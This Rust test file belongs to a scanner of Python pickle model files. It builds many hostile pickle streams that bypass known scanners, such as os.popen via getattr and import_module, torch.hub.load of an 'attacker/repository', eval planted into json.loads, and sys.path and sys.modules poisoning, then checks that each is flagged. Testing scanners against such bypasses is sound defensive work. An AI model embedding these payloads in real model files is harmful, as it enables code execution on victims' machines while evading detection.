//! Known ways past scanners of pickles, made by code: each must be found, at high or critical.
//!
//! Sources: the advisories of picklescan (CVE-2025-1716 and the GHSA lists up to CVE-2026-56315),
//! of fickling and of modelscan (issues 263 and 338), "Hide and Seek" (arXiv 2508.19774),
//! "ShadowPickle" (arXiv 2607.17503), CPython issue 154848.

use std::collections::HashSet;

use stance_core::{Coverage, Observation, Policy, Severity, Snapshot};
use stance_inspect::pickle::assemble::Pickle;
use stance_inspect::{Bytes, Interests, Limits, Options};

use crate::assert_none;

/// What is missed of some streams: those without a finding of high or critical about models.
fn missed(streams: Vec<(String, Vec<u8>)>) -> Vec<String> {
    let interests = Interests::new([]);
    let options = Options {
        limits: Limits::default(),
        hash: false,
        interests: &interests,
        parsers: &stance_inspect::registry::ALL,
    };
    let mut observations = Vec::new();
    for (index, (_, bytes)) in streams.iter().enumerate() {
        let report = stance_inspect::scan(format!("{index}.pkl"), &Bytes(bytes), &options);
        observations.extend(report.facts.into_iter().map(|(subject, fact)| Observation {
            source: "test",
            subject,
            fact,
        }));
    }
    let snapshot = Snapshot::new(
        "test",
        stance_rules::clock(),
        Policy::default(),
        observations,
        Coverage::default(),
    );
    let judgement = stance_rules::judge(&snapshot);
    let found: HashSet<&str> = judgement
        .findings
        .iter()
        .filter(|finding| finding.rule.starts_with("model/") && finding.severity >= Severity::High)
        .map(|finding| &*finding.evidence.path)
        .collect();
    streams
        .into_iter()
        .enumerate()
        .filter(|(index, _)| !found.contains(&*format!("{index}.pkl")))
        .map(|(_, (name, _))| name)
        .collect()
}

/// Callables and a text they are called with, one a line: `module name text`.
const CALLABLES: &str = include_str!("pickle_bypasses.txt");

fn callables() -> impl Iterator<Item = (&'static str, &'static str, &'static str)> {
    CALLABLES
        .lines()
        .filter(|line| !line.is_empty() && !line.starts_with('#'))
        .map(|line| {
            let mut fields = line.splitn(3, ' ');
            let mut field = || fields.next().unwrap_or_default();
            (field(), field(), field())
        })
}

/// The ways to call one function with one text, in all protocols.
fn forms(module: &str, name: &str, text: &str) -> Vec<(&'static str, Vec<u8>)> {
    let dotted = name.contains('.');
    let import = || Pickle::protocol(4).stack_global(module, name);
    let mut forms = vec![
        ("reduce", import().text(text).tuple_of(1).reduce().stop()),
        ("cut", import().text(text).tuple_of(1).reduce().unfinished()),
        (
            "bytes in a list",
            import()
                .raw(b"](")
                .bytes(text.as_bytes())
                .raw(b"e")
                .tuple_of(1)
                .reduce()
                .stop(),
        ),
        (
            "keywords",
            Pickle::protocol(4)
                .global("functools", "partial")
                .stack_global(module, name)
                .text(text)
                .tuple_of(2)
                .reduce()
                .raw(b")R")
                .stop(),
        ),
        (
            "map",
            Pickle::protocol(4)
                .global("builtins", "list")
                .global("builtins", "map")
                .stack_global(module, name)
                .raw(b"](")
                .text(text)
                .raw(b"e")
                .tuple_of(2)
                .reduce()
                .tuple_of(1)
                .reduce()
                .stop(),
        ),
        (
            "put on an instance",
            Pickle::protocol(4)
                .global("our.package", "Thing")
                .raw(b")\x81}")
                .text("__setstate__")
                .stack_global(module, name)
                .raw(b"sb")
                .text(text)
                .build()
                .stop(),
        ),
        (
            "put in the place of append",
            Pickle::protocol(4)
                .global("our.package", "Thing")
                .raw(b")\x81}")
                .text("append")
                .stack_global(module, name)
                .raw(b"sb")
                .text(text)
                .raw(b"a")
                .stop(),
        ),
        (
            "out of the memo",
            Pickle::protocol(4)
                .text(name)
                .raw(b"r\xff\xff\xff\x7f0")
                .text(module)
                .raw(b"j\xff\xff\xff\x7f\x93")
                .raw(b"q\x00q\x010h\x01")
                .text(text)
                .tuple_of(1)
                .reduce()
                .stop(),
        ),
        (
            "behind a bad operand",
            Pickle::protocol(4)
                .raw(b"Fno number\n0")
                .stack_global(module, name)
                .text(text)
                .tuple_of(1)
                .reduce()
                .stop(),
        ),
    ];
    if !dotted {
        let line = |start: &str| format!("{start}{module}\n{name}\n").into_bytes();
        forms.push((
            "inst",
            Pickle::bare()
                .raw(format!("(V{text}\n").as_bytes())
                .raw(&line("i"))
                .stop(),
        ));
        forms.push((
            "obj",
            Pickle::bare()
                .raw(b"(")
                .raw(&line("c"))
                .raw(format!("V{text}\no0N").as_bytes())
                .stop(),
        ));
        forms.push((
            "protocol 2",
            Pickle::protocol(2)
                .raw(&line("c"))
                .text(text)
                .tuple_of(1)
                .reduce()
                .stop(),
        ));
    }
    forms
}

#[test]
fn every_known_callable_is_found_in_every_form() {
    let streams: Vec<(String, Vec<u8>)> = callables()
        .flat_map(|(module, name, text)| {
            forms(module, name, text)
                .into_iter()
                .map(move |(form, bytes)| (format!("{module}.{name}({text:?}) by {form}"), bytes))
        })
        .collect();
    assert!(streams.len() > 5000, "{}", streams.len());
    assert_none(&missed(streams));
}

/// `getattr(X, "a")` and the like as a stream that leaves its result on the stack.
fn call(function: (&str, &str), arguments: &[&dyn Fn(Pickle) -> Pickle], start: Pickle) -> Pickle {
    let mut pickle = start.global(function.0, function.1).mark();
    for argument in arguments {
        pickle = argument(pickle);
    }
    pickle.tuple().reduce()
}

#[test]
fn chains_that_avoid_every_dangerous_import_are_found() {
    let text = |text: &'static str| move |pickle: Pickle| pickle.text(text);
    let fresh = || Pickle::protocol(4);
    let getattr = ("builtins", "getattr");
    let os = |pickle: Pickle| call(("importlib", "import_module"), &[&text("os")], pickle);
    let finish = |pickle: Pickle| pickle.text("id").tuple_of(1).reduce().stop();
    let streams: Vec<(&str, Vec<u8>)> = vec![
        (
            "reduce(getattr, [\"__class__\", ...], print)",
            finish(call(
                ("functools", "reduce"),
                &[
                    &|pickle| pickle.global("builtins", "getattr"),
                    &|pickle| {
                        pickle
                            .raw(b"](")
                            .text("__class__")
                            .text("__base__")
                            .text("__subclasses__")
                            .raw(b"e")
                    },
                    &|pickle| pickle.global("builtins", "print"),
                ],
                fresh(),
            )),
        ),
        (
            "getattr(import_module(\"os\"), \"popen\")",
            finish(call(getattr, &[&os, &text("popen")], fresh())),
        ),
        (
            "a module carried by a safe one",
            finish(fresh().stack_global("torch.nn.modules.module", "torch.hub.load")),
        ),
        (
            "a module carried under another name",
            finish(fresh().stack_global("torch.optim.optimizer", "np.fromfile")),
        ),
        (
            "a class carried by a safe module",
            finish(fresh().stack_global("collections.abc", "sys.modules.get")),
        ),
        (
            "a name longer than names are",
            finish(fresh().stack_global(
                "torch.nn.modules.module",
                &("torch.nn.modules.module.".repeat(90) + "torch.hub.load"),
            )),
        ),
        (
            "getattr of a method of a safe array",
            finish(call(
                getattr,
                &[
                    &|pickle| {
                        pickle
                            .global("numpy", "array")
                            .raw(b"]")
                            .tuple_of(1)
                            .reduce()
                    },
                    &text("tofile"),
                ],
                fresh(),
            )),
        ),
        (
            "a text put together by slicing",
            finish(
                call(
                    ("operator", "getitem"),
                    &[&text("metsys"), &|pickle| {
                        pickle
                            .global("builtins", "slice")
                            .raw(b"NN")
                            .int(-1)
                            .tuple_of(3)
                            .reduce()
                    }],
                    fresh().text("os"),
                )
                .raw(b"\x93"),
            ),
        ),
        (
            "a payload decoded for a function that nobody knows",
            fresh()
                .global("our.package", "gadget")
                .global("base64", "b85decode")
                .text("b9r-gWo-")
                .tuple_of(1)
                .reduce()
                .tuple_of(1)
                .reduce()
                .stop(),
        ),
        (
            "a text deep in tuples",
            fresh()
                .global("our.package", "gadget")
                .text("id")
                .raw(b"\x85\x85\x85\x85\x85")
                .reduce()
                .stop(),
        ),
        (
            "a text in a path",
            fresh()
                .global("our.package", "gadget")
                .global("pathlib", "PosixPath")
                .text("/tmp/x.so")
                .tuple_of(1)
                .reduce()
                .tuple_of(1)
                .reduce()
                .stop(),
        ),
        (
            "a function of a package handed to a solver",
            call(
                ("scipy.optimize", "fsolve"),
                &[
                    &|pickle| pickle.stack_global("torch.hub", "load"),
                    &text("attacker/repository"),
                ],
                fresh(),
            )
            .stop(),
        ),
        (
            "a class made on the spot",
            call(
                ("builtins", "type"),
                &[
                    &text("X"),
                    &|pickle| pickle.global("builtins", "object").tuple_of(1),
                    &|pickle| pickle.raw(b"}"),
                ],
                fresh(),
            )
            .stop(),
        ),
        (
            "a module changed by BUILD",
            call(("importlib", "import_module"), &[&text("json")], fresh())
                .raw(b"}")
                .text("loads")
                .global("builtins", "eval")
                .raw(b"sb")
                .stop(),
        ),
        (
            "a function of a library replaced",
            fresh()
                .global("torch.nn", "Module")
                .raw(b"}")
                .text("forward")
                .global("our.package", "gadget")
                .raw(b"sb")
                .stop(),
        ),
        (
            "a module put in sys.modules",
            fresh()
                .global("sys", "modules")
                .text("json")
                .global("our", "module")
                .raw(b"s")
                .stop(),
        ),
        (
            "a directory put on the path of imports",
            fresh()
                .global("sys", "path")
                .text("/tmp/x")
                .raw(b"a")
                .stop(),
        ),
        ("the extension registry", {
            finish(fresh().raw(b"\x82\x05"))
        }),
        (
            "a payload in a buffer for a loader",
            fresh()
                .global("pickle", "load")
                .global("io", "BytesIO")
                .bytes(b"cos\nsystem\n(S'id'\ntR.")
                .tuple_of(1)
                .reduce()
                .tuple_of(1)
                .reduce()
                .stop(),
        ),
    ];
    let named = streams
        .into_iter()
        .map(|(name, bytes)| (name.to_owned(), bytes));
    assert_none(&missed(named.collect()));
}

#[test]
fn padding_past_every_limit_hides_no_call() {
    // More objects than the machine keeps, a line longer than it reads, a frame that lies; then a
    // function that no list names.
    let call = b"cour.package\ngadget\n(Vid\ntR.";
    let pad = |pad: &[u8]| [b"\x80\x04", pad, call].concat();
    let line = [b"V", &*b"x".repeat(400_000), b"\n0"].concat();
    let frame = [b"\x95", &u64::MAX.to_le_bytes()[..]].concat();
    assert_none(&missed(vec![
        ("objects".to_owned(), pad(&b"]0".repeat(700_000))),
        ("memo".to_owned(), pad(&b"N\x940".repeat(1_200_000))),
        ("marks".to_owned(), pad(&b"(".repeat(1_200_000))),
        ("line".to_owned(), pad(&line)),
        ("frame".to_owned(), pad(&frame)),
    ]));
}
